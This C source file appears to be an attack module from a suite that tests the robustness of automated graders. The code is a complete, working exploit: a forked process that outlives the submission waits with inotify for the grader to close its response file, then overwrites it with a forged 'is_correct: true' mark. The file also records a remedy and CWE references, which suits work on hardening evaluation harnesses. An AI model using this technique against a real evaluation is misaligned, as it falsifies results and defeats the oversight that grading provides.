// SPDX-License-Identifier: MIT
/*
 * Goal:  a wrong answer is marked correct.
 * Means: the response file, and patience. Its path is in the environment that the student inherits.
 *        A process that is left behind waits with inotify(7) until the grader has written and
 *        closed the file, and writes it again before anybody reads it: the reader waits for the
 *        grader's end, and an interpreter takes milliseconds to end.
 *
 *     student --fork--> survivor: inotify ............ write, _exit
 *       ends              grader: marks, writes, closes ..... ends    reader: reads
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <poll.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

#define PATIENCE 5000 /* milliseconds */

static const char mark[] =
	"{\"command\": \"eval\", \"result\": {\"is_correct\": true, \"feedback\": \"\"}}\n";

/* Holds no pipe of the student's, whose end the grader waits for. */
static _Noreturn void survive(const char *path, int watch)
{
	struct pollfd event = { .fd = STDIN_FILENO, .events = POLLIN };
	int out;

	setsid();
	dup2(watch, STDIN_FILENO);
	close_range(STDIN_FILENO + 1, ~0U, 0);
	if (poll(&event, 1, PATIENCE) == 1) {
		out = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
		if (out >= 0 && write(out, mark, strlen(mark)) > 0)
			_exit(0);
	}
	_exit(1);
}

static enum claim run(const struct brief *b)
{
	const char *path = getenv("EVAL_FILE_NAME_RESPONSE");
	int watch = inotify_init1(IN_CLOEXEC);
	pid_t child;

	submit("0");
	attempting(b);
	if (!path || inotify_add_watch(watch, path, IN_CLOSE_WRITE) < 0)
		return denied("EVAL_FILE_NAME_RESPONSE");
	child = fork();
	if (!child)
		survive(path, watch);
	return child < 0 ? denied("fork") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "a wrong submission is marked correct",
	.means = "a process left behind writes the response file after the grader, before the "
		 "reader",
	.oracle = "grade:forged",
	.grader = GRADER_FILE,
	.quick = true,
	.id = "FORGE-08",
	.attack_id = "T1565.002, CWE-367, CWE-732",
	.remedy = "end every process of a submission before the mark is made; a /tmp of its own",
	.refs = (const char *const[]){ "inotify(7)", NULL },
	.run = run,
};
